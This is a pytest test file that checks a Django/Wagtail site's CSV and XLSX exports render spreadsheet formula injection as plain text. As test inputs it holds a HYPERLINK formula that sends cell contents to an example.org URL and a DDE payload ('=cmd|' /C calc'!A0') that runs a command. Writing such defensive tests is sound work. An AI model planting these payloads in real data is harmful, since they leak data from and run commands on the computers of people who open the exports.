"""Every spreadsheet export, in every format, keeps typed data as text: never a live formula.

The data comes in the way an attacker would bring it: through the public sign-up
form. Then a coordinator downloads each listing as CSV and as XLSX.
"""

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.contrib.redirects.models import Redirect
from wagtail.log_actions import log

from tests.booking.factories import coordinator, planned_group, signup_course
from tests.factories import LocationFactory, StandardPageFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@")
FORMULA = '=HYPERLINK("https://example.org/?q="&A1,"Klik hier")'


def sign_up(client, group, **person):
    def url(name):
        return reverse(f"signup:{name}", kwargs={"group_id": group.pk})

    details = {
        "first_name": "Daan",
        "last_name": FORMULA,
        "email": "daan@example.nl",
        "phone": "06-12345678",
        "birth_year": "1990",
        "postcode": "5611 AB",
        "gp_practice": "Huisartsenpraktijk De Linde",
        "action": "next",
    } | person
    assert client.post(url("participant"), details)["Location"] == url("consent")
    assert client.post(url("consent"), {"consent": "on", "action": "next"})["Location"] == url("payment")
    assert client.post(url("payment"), {"provider": "offline", "action": "next"})["Location"] == url("done")


@pytest.fixture
def signed_up(client, course_index):
    course = signup_course(course_index, questions=False, title="Mentaal Fit")
    group = planned_group(course, LocationFactory(name="Gezondheidscentrum De Linde"), capacity=10, count=5)
    sign_up(client, group)
    sign_up(client, group, first_name="@SUM(1+1)", last_name="+31 6 kosten", email="fleur@example.nl")
    client.logout()


@pytest.fixture
def coordinator_client(client):
    client.force_login(coordinator(email="ilse@example.nl"))
    return client


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(response):
    text = body(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response):
    data = body(response)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), "the sheet holds a formula"
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_csv_is_safe(response, typed):
    cells = csv_cells(response)
    assert [cell for cell in cells if typed in cell], f"{typed!r} is not in the file"
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]


def assert_xlsx_is_safe(response, typed):
    cells = xlsx_cells(response)
    assert [cell for cell in cells if isinstance(cell.value, str) and typed in cell.value], f"{typed!r} is missing"
    leading = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)]
    assert leading
    for cell in leading:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


@pytest.mark.parametrize("listing", ["/admin/aanmeldingen/", "/admin/betalingen/"])
def test_our_listings_export_typed_formulas_as_text(signed_up, coordinator_client, listing):
    assert_csv_is_safe(coordinator_client.get(listing, {"export": "csv"}), FORMULA)
    assert_xlsx_is_safe(coordinator_client.get(listing, {"export": "xlsx"}), FORMULA)


def test_the_enrollments_export_keeps_the_typed_name_exactly(signed_up, coordinator_client):
    assert "'" + FORMULA in csv_cells(coordinator_client.get("/admin/aanmeldingen/", {"export": "csv"}))
    cells = xlsx_cells(coordinator_client.get("/admin/aanmeldingen/", {"export": "xlsx"}))
    assert FORMULA in [cell.value for cell in cells]  # shown as typed, flagged as text


@pytest.fixture
def superuser_client(client, settings, home):
    settings.GROEPSWIJZER_STAFF_MFA_REQUIRED = False
    client.force_login(UserFactory(email="beheer@example.nl", is_staff=True, is_superuser=True))
    return client


def test_wagtails_site_history_report_exports_titles_as_text(superuser_client, home):
    page = StandardPageFactory(parent=home, title=FORMULA)
    log(instance=page, action="wagtail.edit", user=UserFactory(email="redactie@example.nl"))
    assert_csv_is_safe(superuser_client.get("/admin/reports/site-history/", {"export": "csv"}), FORMULA)
    assert_xlsx_is_safe(superuser_client.get("/admin/reports/site-history/", {"export": "xlsx"}), FORMULA)


def test_wagtails_redirects_export_links_as_text(superuser_client, home):
    Redirect.objects.create(old_path="/oud", redirect_link="=cmd|' /C calc'!A0")
    assert_csv_is_safe(superuser_client.get("/admin/redirects/", {"export": "csv"}), "=cmd|' /C calc'!A0")
    assert_xlsx_is_safe(superuser_client.get("/admin/redirects/", {"export": "xlsx"}), "=cmd|' /C calc'!A0")
